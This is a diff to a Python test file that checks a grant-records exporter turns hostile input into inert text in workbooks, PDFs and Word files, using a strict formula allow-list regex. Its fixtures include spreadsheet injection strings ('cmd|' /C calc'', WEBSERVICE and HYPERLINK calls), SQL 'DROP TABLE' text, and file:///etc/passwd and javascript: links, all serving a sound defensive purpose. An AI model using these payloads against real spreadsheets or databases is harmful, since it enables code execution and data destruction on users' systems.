@@ -2,8 +2,11 @@
 
 import csv
 import json
+import re
+import unicodedata
 from collections.abc import Iterator
 from pathlib import Path
+from xml.sax.saxutils import unescape
 from zipfile import ZipFile
 
 import pypdfium2
@@ -12,10 +15,17 @@ from docx import Document
 from openpyxl import load_workbook
 
 from tests.cli.decided_rounds import TOTAL, decided_record, export_all
+from tests.safety.table import Reached
 
 RUNS = ("=", "+", "-", "@", "|", "%", "\uff1d")
-OURS = ("SUM(", "IF(", "INT(", "COUNT", "ROUND(", "INDEX(", "MATCH(", "SUMPRODUCT(", "ABS(", "MAX(", "MIN(")
-"""What a formula of ours may call."""
+FORMULA = re.compile(
+    r"""(?:(?:SUM|SUBTOTAL|SUMIF|SUMPRODUCT|COUNT|COUNTA|COUNTIF|COUNTIFS|EXACT|IF|INT|ABS|ROUND)\(
+        |(?:Schedule|Awards|Payments|'By[ ](?:area|code|month)')!
+        |\$?[A-Z]{1,2}\$?[0-9]{1,5}\b|[0-9]+(?:\.[0-9]+)?
+        |""|"<"|">"|">0"|">-1E\+15"|[-+*/&<>=:,()])*""",
+    re.VERBOSE,
+)
+"""The formulas of ours: these functions, sheets and texts, cells, numbers and signs, and nothing else."""
 
 HOSTILE = {
     "a formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
@@ -32,28 +42,104 @@ HOSTILE = {
     "300 characters in one word": "W" * 300,
     "40,000 characters": "long words " * 3_600,
 }
+MORE = {
+    "a plus": "+44 1902 555123+cmd|' /C calc'!A0",
+    "a minus": "-1+1|'x'!A0",
+    "a full-width sign": "\uff1dSUM(A1)\uff0b\uff0d\uff20",
+    "a tab first": "\t=1+1",
+    "a line first": "\n@SUM(A1)",
+    "a web service": '=WEBSERVICE("http://example.org/"&A1)',
+    "a picture": '<img src="/etc/passwd"/><img src="http://example.org/x.png"/>',
+    "a font": '<font name="Nowhere" size="900">big</font><onDraw name="x"/>',
+    "an open tag": "<b>bold <i>and <u>more",
+    "entities": "&amp;lt; &#60; &#x3C; &nbsp; R&D; <12 months",
+    "the end of a part": "]]> <!-- x --> <?php x ?> -->",
+    "a path": r"C:\new\table \\server\share \u0041 %TEMP% ~/x",
+    "quotes": "'\"` “o’clock” ''; DROP TABLE marks; --",
+    "letters of other lands": "Łódź, Ŵyl y Gŵyr, Çelik, Ångström, Ñandú, Ἀθῆναι, Москва",
+    "marks above letters": "e\u0301 a\u0308 c\u0327 n\u0303",
+    "spaces of many widths": "a\u00a0b\u2003c\u200bd\ufeffe",
+    "a Word field": '{ HYPERLINK "http://example.org" } INCLUDETEXT "C:\\x"',
+    "a link": "http://example.org/?a=1&b=2 javascript:alert(1) file:///etc/passwd",
+    "an error of a table": "#REF! #N/A TRUE 1E+400 0x1F 1/2 00012",
+}
+"""The rest of the 32, tried in full."""
+EVERY = [*HOSTILE.items(), *(pytest.param(*pair, marks=pytest.mark.soak) for pair in MORE.items())]
+LONG = ("300 characters in one word", "40,000 characters")
+"""What may go on in another cell or end early, marked as such: their beginnings are compared."""
+SHAPED = ("right to left", "emoji", "a full-width sign")
+"""What a PDF holds in the order on the page, or in signs of another font: compared in workbooks alone."""
 SHORT = ("organisation", "project", "member", "member of", "title", "type", "contact", "crime type")
 """What the record takes no more than a name of, where a text is very long."""
+ESCAPED = re.compile(r"_x(?!D[89A-F])([0-9A-Fa-f]{4})_")
+"""How a workbook writes a character that XML does not know; half a surrogate pair stays as it is."""
 
 
-@pytest.mark.parametrize("said", HOSTILE.values(), ids=HOSTILE)
-def test_every_paper_holds_what_was_written_as_text(said: str, tmp_path: Path) -> None:
-    papers = tmp_path / "papers"
+@pytest.mark.safety(12)
+@pytest.mark.safety(13)
+@pytest.mark.parametrize(("name", "said"), EVERY, ids=[*HOSTILE, *MORE])
+def test_every_paper_holds_what_was_written_as_text(
+    name: str, said: str, tmp_path: Path, reached: Reached
+) -> None:
+    papers, given = tmp_path / "papers", dict[str, str]()
     papers.mkdir()
 
     def say(field: str) -> str:
-        return said[:300].strip() if field in SHORT and len(said) > 1_000 else said
+        short = said[:250] if field in SHORT else said
+        return given.setdefault(field, f"{short} ~{field}~")
 
     found = export_all(decided_record(tmp_path, say), papers)
 
-    for (kind, ending), path in found.items():
-        _CHECKS[ending](kind, path)
+    formulas = sum(_CHECKS[ending](kind, path) or 0 for (kind, ending), path in found.items())
     assert [path.name for path in papers.rglob("*.part-*")] == []
     recipients = _recipients(found["360giving", ".json"])
     assert len(set(recipients)) == 1
     payees = {str(cell).replace("_x005F_", "_") for cell in _cells(found["finance", ".xlsx"])}
     assert recipients[0] in payees
     assert any(recipients[0].split()[0] in text for text in _word_texts(found["notice", ".docx"]))
+    compared = sum(
+        _compared(name, given, path) for (_, ending), path in found.items() if ending in (".xlsx", ".pdf")
+    )
+    reached(f"{len(found)} papers, {compared} texts in workbooks and PDFs as they were given", row=12)
+    reached(f"{len(found)} papers, {formulas} cells are formulas, each of a listed form", row=13)
+    assert compared > (0 if name in LONG else 15)
+
+
+def _compared(name: str, given: dict[str, str], path: Path) -> int:
+    """Compare the fields that a paper shows with what was given; return how many it shows."""
+    is_pdf = path.suffix == ".pdf"
+    if is_pdf and name in SHAPED:
+        return 0
+    texts = [_seen(_words_of(path))] if is_pdf else [_seen(str(cell)) for cell in _cells(path) if cell]
+    shown = 0
+    for field, text in given.items():
+        wanted = _seen(ESCAPED.sub(_unescaped, text))[: 50 if name in LONG else None]
+        holding = [found for found in texts if _seen(f"~{field}~") in found]
+        assert all(wanted in found for found in holding), (path.name, field)
+        shown += bool(holding)
+    return shown
+
+
+def _seen(text: str) -> str:
+    """Return what of a text can be seen: no space, no control or format character."""
+    plain = unicodedata.normalize("NFC", text.replace("_x005F_", "_"))
+    return "".join(
+        one
+        for one in plain
+        if not one.isspace() and unicodedata.category(one) not in ("Cc", "Cf", "Cn", "Co")
+    )
+
+
+def _unescaped(found: re.Match[str]) -> str:
+    return chr(int(found[1], 16))
+
+
+def _words_of(path: Path) -> str:
+    pages = pypdfium2.PdfDocument(path)
+    try:
+        return "".join(page.get_textpage().get_text_range() for page in pages)
+    finally:
+        pages.close()
 
 
 def _recipients(path: Path) -> list[str]:
@@ -62,26 +148,22 @@ def _recipients(path: Path) -> list[str]:
     return [grant["recipientOrganization"][0]["name"] for grant in grants]
 
 
-def _check_workbook(kind: str, path: Path) -> None:
-    """No cell runs but sums and scores of ours; none leads out of the workbook."""
-    book = load_workbook(path)
-    for sheet in book:
-        for cell in (cell for row in sheet.iter_rows() for cell in row):
-            if cell.data_type == "f":
-                assert str(cell.value)[1:].startswith(("SUM(", *OURS)) or _is_sum(str(cell.value)), (
-                    kind,
-                    sheet.title,
-                    cell.coordinate,
-                    cell.value,
-                )
-            assert cell.hyperlink is None
+def _check_workbook(kind: str, path: Path) -> int:
+    """No cell runs but a listed formula of ours, which is counted; none leads out of the workbook."""
+    formulas = 0
     with ZipFile(path) as archive:
-        assert not [name for name in archive.namelist() if "external" in name.casefold()]
-
-
-def _is_sum(formula: str) -> bool:
-    """Whether a formula holds cells, figures and signs alone."""
-    return not any(word in formula for word in ("HYPERLINK", "cmd", "http", "+44", "2+2"))
+        names = archive.namelist()
+        assert not [name for name in names if "external" in name.casefold() or "vba" in name.casefold()]
+        for name in (name for name in names if name.startswith("xl/worksheets/") and name.endswith(".xml")):
+            content = archive.read(name).decode()
+            assert "<hyperlink" not in content
+            for formula in re.findall(r"<f\b[^>]*>([^<]*)</f>", content):
+                assert FORMULA.fullmatch(unescape(formula)), (kind, name, formula)
+                formulas += 1
+            assert content.count("<f>") + content.count("<f ") + content.count("<f/") == len(
+                re.findall(r"<f\b[^>]*>([^<]*)</f>", content)
+            ), "every formula was looked at"
+    return formulas
 
 
 def _check_csv(kind: str, path: Path) -> None:
